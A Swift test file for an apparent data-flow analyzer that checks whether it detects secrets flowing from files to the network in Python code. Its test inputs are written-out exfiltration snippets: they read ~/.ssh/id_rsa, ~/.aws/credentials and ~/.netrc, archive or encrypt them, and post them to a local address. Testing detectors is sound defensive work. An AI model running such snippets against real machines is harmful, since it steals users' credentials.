import Evidence
import Testing

@Suite("FileFlows")
struct FileFlowTests {
  @Test(
    "lead from a secret to the network through files",
    arguments: [
      ("one file", "open('/tmp/a', 'w').write(open('~/.ssh/id_rsa').read())\nsend('/tmp/a')"),
      (
        "a folder in an archive",
        """
        shutil.copyfile('~/.aws/credentials', '/tmp/haul/1')
        with tarfile.open('/tmp/haul.tar.gz', 'w:gz') as archive:
            archive.add('/tmp/haul')
        send('/tmp/haul.tar.gz')
        """
      ),
      (
        "a program that encrypts",
        """
        shutil.copyfile('~/.netrc', '/tmp/plain')
        subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-in', '/tmp/plain', '-out', '/tmp/sealed'])
        send('/tmp/sealed')
        """
      ),
    ])
  func secrets(name: String, theft: String) {
    let reached = followModule(Self.prelude + theft + "\n")
    #expect(reached.flowKinds.contains("credential.read → network.connect"), "\(name): \(reached.flowKinds)")
  }

  @Test(
    "do not join what has no file in common",
    arguments: [
      "open('/tmp/a', 'w').write(open('~/.ssh/id_rsa').read())\nsend('/tmp/b')",
      "open('/tmp/ab', 'w').write(open('~/.ssh/id_rsa').read())\nsend('/tmp/a')",
      "open('~/.ssh/id_rsa').read()\nsend('/tmp/a')",
    ])
  func unrelated(code: String) {
    let reached = followModule(Self.prelude + code + "\n")
    #expect(reached.has(.credentialRead))
    #expect(reached.has(.networkConnect))
    #expect(!reached.flowKinds.contains("credential.read → network.connect"))
  }

  private static let prelude = """
    import shutil, subprocess, tarfile, urllib.request

    def send(path):
        urllib.request.urlopen('http://127.0.0.1:9/', data=open(path, 'rb').read())


    """
}
